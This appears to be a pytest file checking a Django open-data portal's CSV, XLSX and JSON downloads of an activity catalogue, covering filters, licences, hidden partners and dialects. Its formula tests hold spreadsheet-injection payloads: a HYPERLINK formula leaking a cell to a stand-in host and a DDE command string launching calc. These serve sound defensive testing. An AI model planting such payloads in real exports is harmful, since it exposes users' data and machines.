"""Tests of the CSV, XLSX and JSON downloads of the activity catalogue."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.http import FileResponse, QueryDict, StreamingHttpResponse
from openpyxl import load_workbook

from opencoop.activities.models import Activity
from opencoop.catalogue.filters import CatalogueFilters
from opencoop.catalogue.selectors import catalogue
from opencoop.core.models import LICENCES
from opencoop.opendata.downloads import COLUMN_KEYS
from tests.factories import make_activity, make_full_activity, make_reporting_org

from .sensitive import SENSITIVE_TITLE, assert_no_secret, make_sensitive_activity

# Records of several authorities on the demo's site, as on an atlas (tests/conftest.py).
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("every_authority")]

CSV_URL = "/opendata/catalogue/activities.csv"
XLSX_URL = "/opendata/catalogue/activities.xlsx"
JSON_URL = "/opendata/catalogue/activities.json"
METADATA_URL = "/opendata/catalogue/metadata.json"
CC_BY = LICENCES["cc-by-4.0"][1]


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(client, query: str = "") -> list[dict]:
    response = client.get(CSV_URL + query)
    assert response.status_code == 200, body(response)
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8"))))


def json_document(client, query: str = "") -> dict:
    response = client.get(JSON_URL + query)
    assert response.status_code == 200, body(response)
    return json.loads(body(response))


def workbook(client, query: str = ""):
    response = client.get(XLSX_URL + query)
    assert response.status_code == 200, body(response)
    return load_workbook(io.BytesIO(body(response)), read_only=True)


def sheet_rows(book, index: int = 0) -> list[tuple]:
    return list(book.worksheets[index].iter_rows(values_only=True))


def catalogue_identifiers(query: str) -> list[str]:
    """Return what the catalogue page lists for ``query``, all pages, in its order."""
    filters = CatalogueFilters.from_querydict(QueryDict(query.lstrip("?")))
    result = catalogue(filters, lang="en", page_size=10_000)
    return [activity.iati_identifier for activity in result.page.object_list]


@pytest.fixture
def sensitive():
    return make_sensitive_activity()


@pytest.mark.parametrize(
    "query",
    ["", "?country=PS", "?sdg=11", "?country=SY&country=PS", "?q=Bethlehem", "?sort=title"],
)
def test_every_format_lists_what_the_catalogue_lists(client, sensitive, query):
    expected = catalogue_identifiers(query)
    assert expected, "the query should match something in the demo"
    lang = "&lang=en" if query else "?lang=en"

    assert [row["iati_identifier"] for row in csv_rows(client, query + lang)] == expected
    document = json_document(client, query + lang)
    assert [item["iati_identifier"] for item in document["activities"]] == expected
    assert document["count"] == len(expected)
    rows = sheet_rows(workbook(client, query + lang))
    assert [row[0] for row in rows[1:]] == expected


def test_unfiltered_download_has_every_public_activity(client):
    draft = make_activity(make_reporting_org(), "DRAFT", live=False)
    identifiers = [row["iati_identifier"] for row in csv_rows(client)]
    assert len(identifiers) == Activity.objects.published().count()
    assert draft.iati_identifier not in identifiers


def test_csv_has_one_readable_row_per_activity(client):
    org = make_reporting_org()
    partner_org = make_full_activity(org)
    rows = csv_rows(client, f"?org={org.slug}&country=NE&lang=en")
    assert len(rows) == 1
    row = rows[0]
    assert list(row) == COLUMN_KEYS
    assert row["iati_identifier"] == partner_org.iati_identifier
    assert row["title"] == "Water and cooperatives in Ouagadougou and Niamey"
    assert (
        row["countries"] == "Burkina Faso (60%); Niger (40%)"
    )  # CLDR names, not ISO's "Niger (the)"
    assert row["country_codes"] == "BF; NE"
    assert row["sector_codes"] == "14030; 32161; 140"
    assert row["sectors"].startswith("Basic drinking water supply and basic sanitation (60%)")
    assert row["partners"] == "Wend-Panga Cooperative (Implementing)"
    assert row["status"] == "Implementation"
    assert row["planned_start"] == "2024-01-01"
    assert row["budget"] == "90000.00"
    assert row["commitments"] == "90000.00"
    assert row["disbursements"] == "30000.00"
    assert row["expenditure"] == ""
    assert row["iati_url"].endswith(f"/opendata/iati/activity/{partner_org.iati_identifier}.xml")


def test_language_of_the_download(client):
    org = make_reporting_org()
    make_full_activity(org)
    italian = csv_rows(client, f"?org={org.slug}&country=NE&lang=it")[0]
    english = csv_rows(client, f"?org={org.slug}&country=NE&lang=en")[0]
    assert italian["title"] == "Acqua e cooperative a Ouagadougou e Niamey"
    assert italian["countries"] == "Burkina Faso (60%); Niger (40%)"
    assert italian["partners"].startswith("Cooperativa Wend-Panga (")
    assert italian["partners"] != english["partners"]  # the role is named in each language
    assert italian["status"] != english["status"]


def test_hidden_partner_and_places_appear_in_no_download(client, sensitive):
    query = "?country=SY&lang=en"
    csv_bytes = body(client.get(CSV_URL + query))
    assert SENSITIVE_TITLE["en"].encode() in csv_bytes
    assert_no_secret(csv_bytes, "the CSV download")
    row = csv_rows(client, query)[0]
    # Hidden in one role, hidden in its other role too.
    assert row["partners"] == (
        "a local partner (Implementing); a local partner (Extending); "
        "Clear Dawn Cooperative (Implementing)"
    )

    assert_no_secret(body(client.get(JSON_URL + query)), "the JSON download")
    assert_no_secret(body(client.get(METADATA_URL + query)), "the download metadata")

    book = workbook(client, query)
    cells = [
        str(value)
        for sheet in book.worksheets
        for line in sheet.iter_rows(values_only=True)
        for value in line
        if value is not None
    ]
    assert SENSITIVE_TITLE["en"] in cells
    assert_no_secret("\n".join(cells), "the XLSX download")


def test_filtering_by_a_hidden_partner_finds_nothing(client, sensitive):
    assert csv_rows(client, f"?partner={sensitive.hidden.slug}") == []
    named = csv_rows(client, f"?partner={sensitive.visible.slug}")
    assert [row["iati_identifier"] for row in named] == [sensitive.activity.iati_identifier]


def test_licence_in_each_download(client):
    csv_response = client.get(CSV_URL + "?lang=en")
    assert f'<{CC_BY}>; rel="license"' in csv_response["Link"]
    assert 'rel="describedby"' in csv_response["Link"]
    assert "/opendata/catalogue/metadata.json?lang=en" in csv_response["Link"]
    assert csv_response["Content-Disposition"] == 'attachment; filename="activities-en.csv"'

    metadata = json.loads(client.get(METADATA_URL + "?lang=en&country=PS").content)
    assert metadata["licence"]["url"] == CC_BY
    assert (
        metadata["licence"]["name"] == "Creative Commons Attribution 4.0 International (CC BY 4.0)"
    )
    assert metadata["filters"] == {"country": ["PS"]}
    assert metadata["count"] == len(catalogue_identifiers("?country=PS"))
    assert [column["key"] for column in metadata["columns"]] == COLUMN_KEYS
    assert metadata["source"].endswith("/catalogue/?country=PS")

    document = json_document(client, "?lang=en")
    assert next(iter(document)) == "licence"
    assert document["licence"]["url"] == CC_BY

    about = dict(sheet_rows(workbook(client, "?lang=en"), 1))
    assert about["Licence"] == "Creative Commons Attribution 4.0 International (CC BY 4.0)"
    assert about["Licence address"] == CC_BY
    assert about["Source"].startswith("http://testserver/en/")
    columns = sheet_rows(workbook(client, "?lang=en"), 2)
    assert [row[0] for row in columns[1:]] == COLUMN_KEYS


def test_csv_and_json_are_streamed_and_xlsx_is_sent_from_a_file(client):
    for url in (CSV_URL, JSON_URL):
        response = client.get(url)
        assert isinstance(response, StreamingHttpResponse)
        assert len(list(response.streaming_content)) > 2
    response = client.get(XLSX_URL)
    assert isinstance(response, FileResponse)
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )


def test_spreadsheet_never_turns_text_into_a_formula(client):
    org = make_reporting_org()
    make_activity(org, "FORMULA", title={"en": '=HYPERLINK("http://evil.example","x")'})
    book = load_workbook(io.BytesIO(body(client.get(XLSX_URL + "?lang=en"))))
    titles = [row[1] for row in book.worksheets[0].iter_rows(min_row=2)]
    formula_cells = [cell for cell in titles if str(cell.value).startswith("=")]
    assert len(formula_cells) == 1
    assert formula_cells[0].data_type == "s"


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("?country=XX&lang=en", "(country): “XX” is not a known value"),
        ("?year=1800&lang=en", "(year): “1800” is not a known value"),
        ("?sort=random&lang=en", "Sort order (sort): “random” is not known"),
        # Refused before the filters are read (opencoop.operations.middleware), saying where.
        ("?q=water%00&lang=en", "(a NUL byte or a byte that is not UTF-8) in its parameter “q”"),
        # In the language asked, else in the default language.
        ("?country=XX", "Filtro “Paese” (country): “XX” non è un valore conosciuto."),
        ("?lang=fr", "Lingua “fr” (lang): non è una lingua del portale"),
    ],
)
def test_bad_filters_are_refused_saying_what_and_where(client, query, message):
    response = client.get(CSV_URL + query)
    assert response.status_code == 400
    assert message in response.content.decode()
    errors = json.loads(client.get(JSON_URL + query).content)["errors"]
    assert any(message in error for error in errors)


# Spreadsheet formulas ------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_TEXTS = {
    "title": HYPERLINK,
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def formula_activity(reporting_org):
    from datetime import date
    from decimal import Decimal

    from opencoop.activities.models import Transaction

    activity = make_activity(
        reporting_org,
        "FORMULA",
        title={"en": FORMULA_TEXTS["title"], "it": "+1+1"},
        description={"en": FORMULA_TEXTS["description"], "it": "-2+3"},
    )
    # A decommitment: a negative amount written by the portal, a number and not a text.
    Transaction.objects.create(
        activity=activity, type="2", date=date(2024, 3, 1), value=Decimal("-30000")
    )
    return activity


def test_csv_text_cells_a_spreadsheet_would_run_are_neutralised(client, formula_activity):
    [english] = csv_rows(client, "?q=FORMULA&lang=en")
    assert english["title"] == "'" + HYPERLINK
    assert english["description"] == "'" + FORMULA_TEXTS["description"]
    [italian] = csv_rows(client, "?q=FORMULA&lang=it")
    assert (italian["title"], italian["description"]) == ("'+1+1", "'-2+3")
    for row in (english, italian):
        for key, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (key, value)


def test_csv_numbers_stay_numbers_even_when_negative(client, formula_activity):
    [row] = csv_rows(client, "?q=FORMULA&lang=en")
    assert row["commitments"] == "-30000.00"


def test_xlsx_keeps_a_formula_like_title_as_a_text_cell(client, formula_activity):
    response = client.get(XLSX_URL + "?q=FORMULA&lang=en")
    book = load_workbook(io.BytesIO(body(response)))  # not read-only: cells keep their type
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("title") + 1)
    assert (title.value, title.data_type) == (HYPERLINK, "s")
    commitments = sheet.cell(row=2, column=header.index("commitments") + 1)
    assert (commitments.value, commitments.data_type) == (-30000, "n")


def test_italian_excel_csv_has_bom_semicolons_and_decimal_commas(client):
    org = make_reporting_org()
    activity = make_full_activity(org)
    response = client.get(CSV_URL + f"?org={org.slug}&country=NE&lang=it&dialect=excel-it")
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('activities-it-excel-it.csv"')
    raw = body(response)
    assert raw.startswith("\ufeff".encode())
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0] == ";".join(COLUMN_KEYS)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 1
    assert rows[0]["iati_identifier"] == activity.iati_identifier
    assert rows[0]["budget"] == "90000,00"
    assert rows[0]["disbursements"] == "30000,00"
    # The ordinary CSV is unchanged: commas, decimal points, no BOM.
    plain = body(client.get(CSV_URL + f"?org={org.slug}&country=NE&lang=it"))
    assert not plain.startswith("\ufeff".encode())
    assert plain.decode("utf-8").splitlines()[0] == ",".join(COLUMN_KEYS)


def test_unknown_csv_dialect_is_refused_by_name(client):
    response = client.get(CSV_URL + "?lang=en&dialect=excel-fr")
    assert response.status_code == 400
    text = body(response).decode("utf-8")
    assert "CSV dialect (dialect): “excel-fr” is not known; use excel-it" in text
